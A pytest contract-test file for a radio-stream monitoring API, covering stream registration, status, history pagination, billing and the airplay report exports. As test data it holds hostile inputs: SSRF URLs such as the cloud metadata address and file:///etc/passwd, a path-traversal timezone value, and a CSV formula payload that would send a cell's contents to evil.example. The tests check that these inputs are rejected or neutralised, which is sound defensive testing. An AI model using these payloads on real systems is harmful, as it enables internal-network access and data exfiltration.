"""Section G of the contract but for webhooks: live streams, what aired on them, the airplay report.

What a monitor worker writes is written here by the same functions of the account store.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING, Any

import polars as pl
import pytest
from sqlalchemy import func, select

from account_store.clock import format_month
from account_store.streams import airings, gaps, runtime
from account_store.streams.airings import Hearing, PlayedTrack
from account_store.streams.heard_months import record_heard_month
from account_store.streams.stream_tables import airplay_day, stream
from catalog_api.airplay.report_formats import CSV, PARQUET
from catalog_api.routes.streams import uuid_to_place
from catalog_store.cursors import CursorCodec, Place
from tests.conftest import run_module
from tests.contract.awkward import MERGED, RETIRED, isrc
from tests.contract.conftest import Api, problem

if TYPE_CHECKING:
    import httpx

STREAMS = "/v1/streams"
REPORT = "/v1/streams/report"
PUBLIC = "http://93.184.215.14:8000/live.mp3"
_numbers = itertools.count(1)
TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
NOON = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0)


def with_card(server: Api, plan: str = "custom") -> Api:
    caller = server.as_caller(plan)
    server.accounts.set_card(account_of(caller), has_card=True)
    return caller


@pytest.fixture
def radio(server: Api) -> Api:
    """Return a caller with a payment card on file."""
    return with_card(server)


def account_of(caller: Api) -> int:
    found = caller.accounts.keys.find_caller(caller.key)
    assert found is not None
    return found.account_id


def new_stream(caller: Api, name: str = "Radio") -> str:
    answer = caller.post(STREAMS, {"url": f"http://93.184.215.14:8000/{next(_numbers)}.mp3", "name": name})
    assert answer.status_code == 200, answer.text
    identity: str = answer.json()["id"]
    return identity


def began(caller: Api, stream_id: str, moment: datetime) -> None:
    """Backdate the registration of the stream."""
    with caller.accounts.engine.begin() as connection:
        connection.execute(stream.update().where(stream.c.stream_id == stream_id).values(created_at=moment))


def tell(caller: Api, stream_id: str, status: str, error: str | None = None) -> None:
    with caller.accounts.engine.begin() as connection:
        runtime.update_runtime(connection, stream_id, runtime.State(status, error), datetime.now(UTC))


def air(
    caller: Api, stream_id: str, recording_id: int, started_at: datetime, seconds: int = 200, *, ended: bool = True, title: str = "As aired"
) -> None:
    """Write an airing that rests on three detections."""
    start = int(started_at.timestamp() * 1000)
    track = PlayedTrack(recording_id, title, "Whoever it was", isrc(recording_id % 1000), 201)
    with caller.accounts.engine.begin() as connection:
        for heard in (12_000, 17_000, seconds * 1000):
            airings.start(connection, stream_id, track, Hearing(start, start, start + heard, 0.93, 3))
        if ended:
            airings.close_open(connection, stream_id)


def ask_report(caller: Api, accept: str = "application/json", **query: object) -> httpx.Response:
    return caller.get(REPORT, headers={"accept": accept}, **query)


def days(first: datetime, last: datetime) -> dict[str, str]:
    return {"from": str(first.date()), "until": str(last.date())}


def test_g1_a_stream_is_registered_and_has_one_id_everywhere(radio: Api) -> None:
    made = radio.post(STREAMS, {"url": PUBLIC, "name": "Radio Amber"})
    assert made.status_code == 200
    body = made.json()
    assert set(body) >= {"id", "url", "name", "status", "detection_mode", "created_at", "stopped_at"}
    assert (body["url"], body["name"], body["status"], body["detection_mode"]) == (PUBLIC, "Radio Amber", "active", "balanced")
    assert body["stopped_at"] is None
    assert TIMESTAMP.fullmatch(body["created_at"])
    assert str(uuid.UUID(body["id"])) == body["id"]
    assert radio.ask(f"{STREAMS}/{body['id']}")["id"] == body["id"]
    assert [one["id"] for one in radio.ask(STREAMS)["results"]] == [body["id"]]
    with radio.accounts.engine.connect() as connection:
        free = select(stream.c.stream_id).where(stream.c.status == "active", stream.c.worker_id.is_(None))
        assert body["id"] in connection.scalars(free).all(), "the next worker that looks takes it"


@pytest.mark.parametrize(
    "url",
    [
        *("ftp://radio.example.org/live", "file:///etc/passwd", "radio.example.org", "rtmp://radio.example.org/x", "http://", "", 7, None),
        *("http://127.0.0.1:8000/live", "http://localhost/live", "http://10.0.0.8/live", "https://192.168.1.1/", "http://172.16.0.1/"),
        *("http://169.254.169.254/latest/meta-data", "http://0.0.0.0/", "http://[::1]/live", "http://[fe80::1]/", "http://[fd00::1]/"),
        *("http://[::ffff:127.0.0.1]/live", "http://[64:ff9b::7f00:1]/", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.1/"),
        *("http://127.1/", "http://me:secret@93.184.215.14/live", "http://93.184.215.14:25/", "http://100.64.0.1/", "http://224.0.0.1/"),
    ],
)
def test_g1_addresses_inside_and_other_schemes_are_400(radio: Api, url: object) -> None:
    assert problem(radio.post(STREAMS, {"url": url, "name": "Radio"})) == (400, "invalid_parameter", ["url"])
    assert radio.ask(STREAMS)["results"] == []


def test_g1_what_else_is_wrong_is_named_at_once(radio: Api) -> None:
    assert problem(radio.post(STREAMS, {})) == (400, "invalid_parameter", ["url", "name"])
    assert problem(radio.post(STREAMS, {"url": PUBLIC, "name": " "}))[2] == ["name"]
    assert problem(radio.post(STREAMS, {"url": PUBLIC, "name": "x" * 201}))[2] == ["name"]
    assert problem(radio.post(STREAMS, {"url": "http://93.184.215.14/" + "x" * 2000, "name": "x"}))[2] == ["url"]
    assert problem(radio.request("POST", STREAMS, content=b"{}", headers={"content-type": "text/plain"}))[1] == "unsupported_media_type"


def test_g1_a_name_that_does_not_resolve_now_is_taken_and_told(radio: Api) -> None:
    body = radio.post(STREAMS, {"url": "http://nowhere.invalid/live", "name": "Radio"}).json()
    assert body["status"] == "active"
    assert "nowhere.invalid" in body["unresolved"]
    assert "unresolved" not in radio.ask(f"{STREAMS}/{body['id']}")


def test_g1_without_a_card_it_is_403_before_the_body_is_looked_at(server: Api) -> None:
    for plan in ("free", "starter"):
        caller = server.as_caller(plan)
        refused = caller.request("POST", STREAMS, content=b"\xff", headers={"content-type": "text/plain"})
        assert problem(refused) == (403, "payment_method_required", [])
        assert caller.ask(STREAMS)["results"] == [], "reading needs no card"
    assert with_card(server, "free").post(STREAMS, {"url": PUBLIC, "name": "Radio"}).status_code == 200, "a card is enough on any plan"


def test_g1_a_repeat_under_an_idempotency_key_is_one_stream(radio: Api) -> None:
    body = {"url": PUBLIC, "name": "Radio"}
    answers = [radio.post(STREAMS, body, headers={"idempotency-key": "once"}) for _ in range(2)]
    assert answers[0].json() == answers[1].json()
    assert answers[1].headers["idempotency-replayed"] == "true"
    assert len(radio.ask(STREAMS)["results"]) == 1
    other = radio.post(STREAMS, {**body, "name": "Another"}, headers={"idempotency-key": "once"})
    assert problem(other)[:2] == (409, "idempotency_key_reused")


def test_g2_statuses_are_those_of_the_contract_and_the_last_error_is_told(radio: Api) -> None:
    stream_id = new_stream(radio)
    assert radio.ask(f"{STREAMS}/{stream_id}")["runtime_status"] == "starting"
    for status, error in (("running", None), ("reconnecting", "connection refused by 93.184.215.14:8000"), ("failed", "HTTP 404")):
        tell(radio, stream_id, status, error)
        shown = radio.ask(f"{STREAMS}/{stream_id}")
        assert (shown["status"], shown["runtime_status"], shown["last_error"]) == ("active", status, error)
    assert TIMESTAMP.fullmatch(shown["last_error_at"])
    stopped = radio.request("DELETE", f"{STREAMS}/{stream_id}").json()
    assert (stopped["status"], stopped["runtime_status"]) == ("stopped", "stopped")


def test_g3_streams_are_listed_newest_first_in_pages_that_fit_together(radio: Api) -> None:
    made = [new_stream(radio, f"Radio {number}") for number in range(5)]
    whole = [one["id"] for one in radio.ask(STREAMS)["results"]]
    assert sorted(whole) == sorted(made)
    stamps = [one["created_at"] for one in radio.ask(STREAMS)["results"]]
    assert stamps == sorted(stamps, reverse=True)
    page = radio.ask(STREAMS, limit=2)
    turned = page["results"]
    while page["next_cursor"]:
        page = radio.ask(STREAMS, limit=2, cursor=page["next_cursor"])
        turned += page["results"]
    assert [one["id"] for one in turned] == whole
    assert radio.refused(STREAMS, limit=101) == (400, "invalid_parameter", ["limit"])


def test_g3_cursors_of_others_and_changed_ones_are_refused(server: Api, radio: Api) -> None:
    for number in range(2):
        new_stream(radio, f"Radio {number}")
    cursor = radio.ask(STREAMS, limit=1)["next_cursor"]
    assert with_card(server).refused(STREAMS, cursor=cursor)[:2] == (400, "invalid_cursor")
    assert radio.refused(STREAMS, cursor=cursor[:-2] + "xx")[:2] == (400, "invalid_cursor")


def test_g3_g5_sealed_cursors_with_places_of_nothing_are_refused(radio: Api) -> None:
    stream_id = new_stream(radio)
    sealed = CursorCodec().encode(("streams", str(account_of(radio))), uuid_to_place(str(uuid.uuid4())))
    assert radio.refused(STREAMS, cursor=sealed)[:2] == (400, "invalid_cursor")
    for second in (datetime.max.replace(tzinfo=UTC).timestamp() + 1, 2.0**52):
        sealed = CursorCodec().encode(("airings", stream_id), Place(second, 0, 1))
        assert radio.refused(f"{STREAMS}/{stream_id}/history", cursor=sealed)[:2] == (400, "invalid_cursor")
    latest = CursorCodec().encode(("airings", stream_id), Place(253_402_300_799, 0, 1))
    assert radio.ask(f"{STREAMS}/{stream_id}/history", cursor=latest)["results"] == []


def test_g3_stopping_is_for_good_and_twice_is_once(radio: Api) -> None:
    stream_id = new_stream(radio)
    tell(radio, stream_id, "running")
    air(radio, stream_id, 1, datetime.now(UTC) - timedelta(seconds=30), 30, ended=False)
    first = radio.request("DELETE", f"{STREAMS}/{stream_id}")
    assert first.status_code == 200
    assert TIMESTAMP.fullmatch(first.json()["stopped_at"])
    assert first.json()["now_playing"] is None
    again = radio.request("DELETE", f"{STREAMS}/{stream_id}")
    assert (again.status_code, again.json()) == (200, first.json())
    assert radio.ask(f"{STREAMS}/{stream_id}") == first.json()
    assert radio.ask(f"{STREAMS}/{stream_id}/history")["results"][0]["ended_at"] is not None, "what aired stays"


def test_g3_streams_of_others_and_of_nobody_are_404(server: Api, radio: Api) -> None:
    stream_id = new_stream(radio)
    other = with_card(server)
    for identity in (stream_id, str(uuid.uuid4()), "1", "not-a-uuid", stream_id.upper() + "x", "%00", "%ff"):
        for path in (f"{STREAMS}/{identity}", f"{STREAMS}/{identity}/history"):
            assert problem(other.get(path))[:2] in {(404, "not_found"), (400, "invalid_parameter")}, path
        assert other.request("DELETE", f"{STREAMS}/{identity}").status_code in {400, 404}
    assert problem(other.get(f"{STREAMS}/{stream_id}"))[:2] == (404, "not_found")
    assert problem(other.request("DELETE", f"{STREAMS}/{stream_id}"))[:2] == (404, "not_found")
    assert radio.ask(f"{STREAMS}/{stream_id}")["status"] == "active"
    assert problem(radio.request("PUT", f"{STREAMS}/{stream_id}"))[:2] == (405, "method_not_allowed")


def test_g4_what_is_heard_now_is_told_with_its_track(radio: Api) -> None:
    stream_id = new_stream(radio)
    shown = radio.ask(f"{STREAMS}/{stream_id}")
    assert (shown["now_playing"], shown["now_playing_state"], shown["last_recognized_at"]) == (None, "not_listening", None)
    tell(radio, stream_id, "running")
    assert radio.ask(f"{STREAMS}/{stream_id}")["now_playing_state"] == "unrecognized"
    started = datetime.now(UTC) - timedelta(seconds=60)
    air(radio, stream_id, 1, started, 60, ended=False)
    shown = radio.ask(f"{STREAMS}/{stream_id}")
    playing = shown["now_playing"]
    assert shown["now_playing_state"] == "playing"
    assert abs(datetime.fromisoformat(playing["started_at"]) - started) < timedelta(seconds=1)
    track = playing["track"]
    assert (track["id"], track["title"], track["isrc"]) == ("1", "Midnight Running", isrc(1)), "as the catalog has it now"
    assert (track["artist"], track["genre"], track["duration"]) == ("The Velvet Foxes", ["House"], 179)
    assert radio.ask(f"/v1/tracks/{track['id']}")["title"] == track["title"]
    assert radio.ask(STREAMS)["results"] == [shown]
    assert TIMESTAMP.fullmatch(shown["last_recognized_at"])


def test_g4_nothing_is_now_playing_during_talk_and_while_nobody_listens(radio: Api) -> None:
    stream_id = new_stream(radio)
    tell(radio, stream_id, "running")
    air(radio, stream_id, 1, datetime.now(UTC) - timedelta(seconds=100), 60, ended=False)
    shown = radio.ask(f"{STREAMS}/{stream_id}")
    assert (shown["now_playing"], shown["now_playing_state"]) == (None, "unrecognized"), "it was heard 40 s ago"
    air(radio, stream_id, 2, datetime.now(UTC) - timedelta(seconds=20), 20, ended=False)
    assert radio.ask(f"{STREAMS}/{stream_id}")["now_playing"]["track"]["id"] == "2"
    tell(radio, stream_id, "reconnecting", "it went away")
    shown = radio.ask(f"{STREAMS}/{stream_id}")
    assert (shown["now_playing"], shown["now_playing_state"]) == (None, "not_listening")


def test_g5_history_is_newest_first_in_pages_that_fit_together(radio: Api) -> None:
    stream_id = new_stream(radio)
    for number in range(5):
        air(radio, stream_id, 1 + number % 2, NOON + timedelta(minutes=10 * number), 200 + number)
    page = radio.ask(f"{STREAMS}/{stream_id}/history")
    assert set(page) == {"results", "next_cursor"}
    assert page["next_cursor"] is None
    assert [one["duration_seconds"] for one in page["results"]] == [204, 203, 202, 201, 200]
    newest = page["results"][0]
    assert set(newest) >= {"track", "started_at", "ended_at", "duration_seconds", "confidence"}
    assert newest["started_at"] == (NOON + timedelta(minutes=40)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert newest["ended_at"] == (NOON + timedelta(minutes=40, seconds=204)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert (newest["track"]["id"], newest["confidence"]) == ("1", 0.93)
    turned: list[Any] = []
    cursor = None
    while True:
        part = radio.ask(f"{STREAMS}/{stream_id}/history", limit=2, **({"cursor": cursor} if cursor else {}))
        turned += part["results"]
        cursor = part["next_cursor"]
        if cursor is None:
            break
        air(radio, stream_id, 3, NOON + timedelta(hours=1, minutes=len(turned)), 100)
    assert turned == page["results"], "what airs meanwhile moves nothing"
    other = new_stream(radio)
    first = radio.ask(f"{STREAMS}/{stream_id}/history", limit=1)["next_cursor"]
    assert radio.refused(f"{STREAMS}/{other}/history", cursor=first)[:2] == (400, "invalid_cursor")


def test_g5_titles_are_the_catalogs_where_the_track_still_lives_else_as_aired(radio: Api) -> None:
    stream_id = new_stream(radio)
    for number, recording_id in enumerate((MERGED, RETIRED, 5_000_000)):
        air(radio, stream_id, recording_id, NOON + timedelta(minutes=10 * number), title=f"As aired {recording_id}")
    tracks = [one["track"] for one in radio.ask(f"{STREAMS}/{stream_id}/history")["results"]]
    assert [(track["id"], track["title"]) for track in tracks] == [
        ("5000000", "As aired 5000000"),
        (str(RETIRED), f"As aired {RETIRED}"),
        ("1", "Midnight Running"),
    ]
    assert tracks[1]["artist"] == "Whoever it was"


def test_g6_an_airing_is_one_row_however_often_it_was_detected_and_a_repeat_another(radio: Api) -> None:
    stream_id = new_stream(radio)
    air(radio, stream_id, 1, NOON)
    air(radio, stream_id, 1, NOON)
    air(radio, stream_id, 1, NOON + timedelta(seconds=230))
    assert len(radio.ask(f"{STREAMS}/{stream_id}/history")["results"]) == 2
    [reported] = radio.ask(REPORT, **days(NOON, NOON))["report"]["streams"]
    assert [row["play_count"] for row in reported["summary"]] == [2]
    assert len(reported["detail"]) == 2


def test_g6_gaps_are_listed_for_who_reconciles(radio: Api) -> None:
    stream_id = new_stream(radio)
    with radio.accounts.engine.begin() as connection:
        gaps.open_gap(connection, stream_id, gaps.SOURCE, NOON, "HTTP 404")
        gaps.close_gap(connection, stream_id, NOON + timedelta(minutes=5))
    [reported] = radio.ask(REPORT, **days(NOON, NOON))["report"]["streams"]
    assert reported["gaps"] == [
        {"started_at": f"{NOON:%Y-%m-%d}T12:00:00Z", "ended_at": f"{NOON:%Y-%m-%d}T12:05:00Z", "cause": "source", "detail": "HTTP 404"}
    ]


def test_g7_the_report_has_a_summary_and_every_airing_of_every_stream(radio: Api) -> None:
    first, second = new_stream(radio, "Radio Amber"), new_stream(radio, 'Radio "B", 2')
    began(radio, first, NOON - timedelta(days=1))
    for minutes, recording_id in ((0, 1), (10, 2), (20, 1), (30, MERGED), (40, 6)):
        air(radio, first, recording_id, NOON + timedelta(minutes=minutes), 190)
    answer = ask_report(radio, **days(NOON, NOON))
    assert answer.headers["content-type"] == "application/json; charset=utf-8"
    report = answer.json()["report"]
    assert (report["from"], report["until"], report["scope"]) == (str(NOON.date()), str(NOON.date()), "account")
    assert [(one["id"], one["name"]) for one in report["streams"]] == [(first, "Radio Amber"), (second, 'Radio "B", 2')]
    reported = report["streams"][0]
    assert reported["summary"] == [
        {"track_id": 1, "isrc": isrc(1), "title": "Midnight Running", "artist": "The Velvet Foxes", "play_count": 3},
        {
            "track_id": 2,
            "isrc": isrc(2),
            "title": "Midnight Running (Daft Trunk Remix)",
            "artist": "The Velvet Foxes",
            "play_count": 1,
        },
        {"track_id": 6, "isrc": None, "title": "Harbour Lights", "artist": "Nova Kline", "play_count": 1},
    ]
    assert [row["isrc"] for row in reported["detail"]] == [isrc(1), isrc(2), isrc(1), isrc(1), None]
    assert reported["detail"][0]["played_at"] == f"{NOON:%Y-%m-%d}T12:00:00Z"
    assert {row["duration_seconds"] for row in reported["detail"]} == {190}
    assert report["streams"][1]["summary"] == report["streams"][1]["detail"] == []
    assert not {"iswc", "genre"} & {name for row in (*reported["summary"], *reported["detail"]) for name in row}


def test_g7_days_are_whole_and_the_last_is_included(radio: Api) -> None:
    stream_id = new_stream(radio)
    midnight = NOON.replace(hour=0) - timedelta(days=40)
    began(radio, stream_id, midnight - timedelta(days=2))
    moments = [
        midnight - timedelta(seconds=1),
        midnight,
        midnight + timedelta(hours=23, minutes=59, seconds=59),
        midnight + timedelta(days=1),
    ]
    for number, moment in enumerate(moments):
        air(radio, stream_id, 1 + number, moment, 5)
    for _ in range(2):
        [reported] = radio.ask(REPORT, **days(midnight, midnight))["report"]["streams"]
        assert [row["played_at"] for row in reported["detail"]] == [moment.strftime("%Y-%m-%dT%H:%M:%SZ") for moment in moments[1:3]]
        radio.accounts.airplay.settle()
    with radio.accounts.engine.connect() as connection:
        packed = select(func.count()).select_from(airplay_day).where(airplay_day.c.stream_id == stream_id)
        assert connection.scalar(packed) > 1, "the second time it was read from the packed day"
    [reported] = radio.ask(REPORT, **days(midnight - timedelta(days=1), midnight + timedelta(days=1)))["report"]["streams"]
    assert len(reported["detail"]) == 4


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ({}, ["from", "until"]),
        ({"from": "2026-11-01"}, ["until"]),
        ({"from": "2026-11-02", "until": "2026-11-01"}, ["from"]),
        ({"from": "2026-08-01", "until": "2026-11-01"}, ["from", "until"]),
        ({"from": "2026-13-01", "until": "2026-02-30"}, ["from", "until"]),
        ({"from": "2026-11-01T00:00:00Z", "until": "20261101"}, ["from", "until"]),
        ({"from": "0001-01-01", "until": "9999-12-31"}, ["from", "until"]),
        ({"from": "2026-11-01", "until": "2026-11-01", "timezone": "Mars/Olympus"}, ["timezone"]),
        ({"from": "2026-11-01", "until": "2026-11-01", "timezone": "../../etc/passwd"}, ["timezone"]),
    ],
)
def test_g7_a_window_that_cannot_be_meant_is_400(api: Api, query: dict[str, str], names: list[str]) -> None:
    assert api.refused(REPORT, **query) == (400, "invalid_parameter", names)


def test_g7_92_days_pass_and_93_do_not(api: Api) -> None:
    first = date(2026, 8, 1)
    assert api.get(REPORT, **{"from": str(first), "until": str(first + timedelta(days=91))}).status_code == 200
    assert api.refused(REPORT, **{"from": str(first), "until": str(first + timedelta(days=92))})[0] == 400


def test_g7_days_of_another_time_zone_begin_at_its_midnights(radio: Api) -> None:
    stream_id = new_stream(radio)
    began(radio, stream_id, datetime(2026, 10, 1, tzinfo=UTC))
    # The clocks of Berlin go back on 25 October 2026: its day begins at 22:00 and ends at 23:00, UTC.
    for number, moment in enumerate(("2026-10-24T21:59:59", "2026-10-24T22:00:00", "2026-10-25T22:59:59", "2026-10-25T23:00:00")):
        air(radio, stream_id, 1 + number, datetime.fromisoformat(moment).replace(tzinfo=UTC), 5)
    report = radio.ask(REPORT, **{"from": "2026-10-25", "until": "2026-10-25", "timezone": "Europe/Berlin"})["report"]
    assert report["timezone"] == "Europe/Berlin"
    assert [row["played_at"] for row in report["streams"][0]["detail"]] == ["2026-10-24T22:00:00Z", "2026-10-25T22:59:59Z"]


def test_g1_a_stream_that_was_never_heard_is_not_billed(radio: Api) -> None:
    silent, before, aired, running = (new_stream(radio) for _ in range(4))
    for stream_id in (silent, before, aired, running):
        began(radio, stream_id, NOON - timedelta(days=70))
    heard(radio, before, format_month(NOON - timedelta(days=65)))
    air(radio, aired, 1, NOON - timedelta(days=65))
    assert radio.ask("/v1/usage")["stream_months"] == 0, "heard months ago is not heard this month"
    heard(radio, running, format_month(datetime.now(UTC)))
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_price_eur"]) == (1, 29)
    earlier = radio.accounts.usage.read_month_now(account_of(radio), format_month(NOON - timedelta(days=65)))
    assert earlier.stream_months == 2, "an airing was heard by somebody"


@pytest.mark.parametrize(
    ("first", "second", "is_same"),
    [
        ("http://93.184.215.14/live", "HTTP://93.184.215.14:80/live#now", True),
        ("http://radio.example.org:8000/live", "http://RADIO.example.org.:8000/live", True),
        ("https://radio.example.org", "https://radio.example.org:443/", True),
        ("http://radio.example.org/a%7eb%2fc", "http://radio.example.org/%61~b%2Fc", True),
        ("http://radio.example.org/live", "http://radio.example.org/LIVE", False),
        ("http://radio.example.org/live", "https://radio.example.org/live", False),
        ("http://radio.example.org/live", "http://radio.example.org:8000/live", False),
        ("http://radio.example.org/live?x=1", "http://radio.example.org/live", False),
        ("http://radio.example.org/a%2fb", "http://radio.example.org/a/b", False),
    ],
)
def test_g1_an_address_is_monitored_once_for_an_account(server: Api, radio: Api, first: str, second: str, *, is_same: bool) -> None:
    made = radio.post(STREAMS, {"url": first, "name": "Radio"}).json()["id"]
    again = radio.post(STREAMS, {"url": second, "name": "Radio"})
    if not is_same:
        assert again.status_code == 200
        return
    assert problem(again) == (409, "stream_exists", [])
    assert again.json()["stream_id"] == made
    assert with_card(server).post(STREAMS, {"url": first, "name": "Radio"}).status_code == 200, "another account's"
    radio.request("DELETE", f"{STREAMS}/{made}")
    assert radio.post(STREAMS, {"url": second, "name": "Radio"}).status_code == 200, "a stopped one is in nobody's way"


def test_g1_an_account_has_so_many_active_streams_and_no_more_whoever_comes_at_once(radio: Api) -> None:
    made = [new_stream(radio) for _ in range(48)]
    with ThreadPoolExecutor(6) as threads:
        numbers = range(6)
        answers = list(threads.map(lambda one: radio.post(STREAMS, {"url": f"http://93.184.215.14/{one}", "name": "r"}), numbers))
    assert sorted(answer.status_code for answer in answers) == [200] * 2 + [403] * 4
    assert {problem(answer)[1] for answer in answers if answer.status_code == 403} == {"stream_limit"}
    radio.request("DELETE", f"{STREAMS}/{made[0]}")
    assert radio.post(STREAMS, {"url": PUBLIC, "name": "r"}).status_code == 200


def test_g7_csv_parquet_and_json_tell_the_same(radio: Api) -> None:
    first, second = new_stream(radio, 'Radio "Amber", Köln'), new_stream(radio, "Radio B")
    new_stream(radio, "Silent")
    for stream_id in (first, second):
        began(radio, stream_id, NOON - timedelta(days=30))
    for number in range(60):
        moment = NOON - timedelta(days=number % 7, minutes=7 * number)
        air(radio, (first, second)[number % 2], (1, 2, 6, MERGED, RETIRED, 10, 12)[number % 7], moment, 10 + number)
    query = days(NOON - timedelta(days=29), NOON)
    as_json = radio.ask(REPORT, **query)["report"]
    names = {row["track_id"]: (row["title"], row["artist"]) for one in as_json["streams"] for row in one["summary"]}
    expected = [
        (one["id"], one["name"], row["track_id"], row["isrc"], *names[row["track_id"]], row["played_at"], row["duration_seconds"])
        for one in as_json["streams"]
        for row in one["detail"]
    ]
    assert len(expected) == 60
    for one in as_json["streams"]:
        assert Counter(row["track_id"] for row in one["detail"]) == {row["track_id"]: row["play_count"] for row in one["summary"]}
        assert [row["played_at"] for row in one["detail"]] == sorted(row["played_at"] for row in one["detail"])

    answer = ask_report(radio, CSV, **query)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert f'filename="airplay_{query["from"]}_{query["until"]}.csv"' in answer.headers["content-disposition"]
    heading, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert heading == ["stream_id", "stream_name", "track_id", "isrc", "title", "artist", "played_at", "duration_seconds"]
    assert [tuple(line) for line in lines] == [tuple("" if value is None else str(value) for value in row) for row in expected]

    answer = ask_report(radio, PARQUET, **query)
    assert answer.headers["content-type"] == PARQUET
    frame = pl.read_parquet(io.BytesIO(answer.content))
    assert frame.columns == heading
    rows = frame.with_columns(pl.col("played_at").dt.strftime("%Y-%m-%dT%H:%M:%SZ")).rows()
    assert rows == expected


def test_g7_csv_holds_no_formula_and_json_and_parquet_are_exact(radio: Api) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1;"Radio");+1'
    stream_id = new_stream(radio, name)
    began(radio, stream_id, NOON - timedelta(days=2))
    air(radio, stream_id, 1, NOON, 30)
    query = days(NOON - timedelta(days=1), NOON)
    assert radio.ask(REPORT, **query)["report"]["streams"][0]["name"] == name
    assert pl.read_parquet(io.BytesIO(ask_report(radio, PARQUET, **query).content))["stream_name"].to_list() == [name]
    [_, line] = csv.reader(io.StringIO(ask_report(radio, CSV, **query).content.decode(), newline=""))
    assert line[1] == '\'=HYPERLINK("https://evil.example/?"&A1;"Radio");\'+1'
    assert line[-1] == "30", "numbers stay numbers"


@pytest.mark.parametrize(
    ("accept", "answered"),
    [
        ("*/*", "application/json"),
        ("text/csv", "text/csv"),
        ("text/*", "text/csv"),
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("text/csv;q=0, */*;q=0.1", "application/json"),
        ("application/vnd.apache.parquet, */*;q=0.1", PARQUET),
        ("text/html, image/png", None),
    ],
)
def test_g7_the_form_is_that_of_the_accept_header(api: Api, accept: str, answered: str | None) -> None:
    answer = ask_report(api, accept, **days(NOON, NOON))
    if answered is None:
        assert problem(answer) == (406, "not_acceptable", [])
    else:
        assert answer.headers["content-type"].partition(";")[0] == answered
        assert answer.headers["cache-control"] == "no-store"


def test_g7_the_report_is_the_accounts_own(server: Api, radio: Api) -> None:
    air(radio, new_stream(radio), 1, NOON)
    assert with_card(server).ask(REPORT, **days(NOON, NOON))["report"]["streams"] == []


def heard(caller: Api, stream_id: str, *months: str) -> None:
    """Record the months as the write queue of a monitor worker does."""
    with caller.accounts.engine.begin() as connection:
        for month in months:
            record_heard_month(connection, stream_id, month)


def test_g7_a_stream_is_paid_for_in_every_month_that_it_is_active_and_heard_in(radio: Api) -> None:
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_month_price_eur"], usage["stream_price_eur"]) == (0, 29, 0)
    kept, stopped, earlier = (new_stream(radio) for _ in range(3))
    began(radio, kept, NOON - timedelta(days=70))
    now, then = format_month(datetime.now(UTC)), format_month(NOON - timedelta(days=69))
    for stream_id in (kept, stopped, earlier):
        heard(radio, stream_id, now, then)
    for stream_id in (stopped, earlier):
        radio.request("DELETE", f"{STREAMS}/{stream_id}")
    with radio.accounts.engine.begin() as connection:
        long_ago = {"created_at": NOON - timedelta(days=70), "stopped_at": NOON - timedelta(days=69)}
        connection.execute(stream.update().where(stream.c.stream_id == earlier).values(long_ago))
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_price_eur"]) == (2, 58), "one that was stopped within the month counts, once"
    name = radio.accounts.get(account_of(radio)).name
    url = radio.accounts.engine.url.render_as_string(hide_password=False)
    month = format_month(NOON - timedelta(days=69))
    shown = run_module("account_store", "--accounts", url, "usage", name, "--month", month)
    assert re.search(r"stream_months +2\n", shown.stdout), shown.stdout
    assert re.search(r"stream_price_eur +58\.00\n", shown.stdout), shown.stdout


def test_g9_stream_calls_cost_no_credits_and_need_none(server: Api) -> None:
    caller = server.with_credits(1)
    server.accounts.set_card(account_of(caller), has_card=True)
    assert caller.get("/v1/genres").status_code == 200
    assert caller.get("/v1/genres").status_code == 429, "the one credit is gone"
    stream_id = new_stream(caller)
    air(caller, stream_id, 1, NOON)
    for path in (STREAMS, f"{STREAMS}/{stream_id}", f"{STREAMS}/{stream_id}/history", REPORT + f"?from={NOON.date()}&until={NOON.date()}"):
        assert caller.get(path).status_code == 200, path
    assert caller.request("DELETE", f"{STREAMS}/{stream_id}").status_code == 200
    assert caller.ask("/v1/usage")["credits_used"] == 1
